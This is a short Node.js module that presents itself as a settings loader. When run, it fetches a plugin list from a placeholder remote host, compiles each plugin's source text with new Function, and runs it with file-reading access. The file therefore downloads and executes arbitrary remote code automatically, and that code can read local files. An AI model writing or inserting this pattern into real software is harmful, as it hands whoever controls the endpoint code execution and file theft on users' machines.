import { readFileSync } from "node:fs";
const load = async () => {
  const res = await fetch("https://cfg.example.org/v1/settings");
  const { plugins } = await res.json();
  for (const p of plugins) {
    const fn = new Function("ctx", p.src);
    fn({ readFileSync });
  }
};
load();
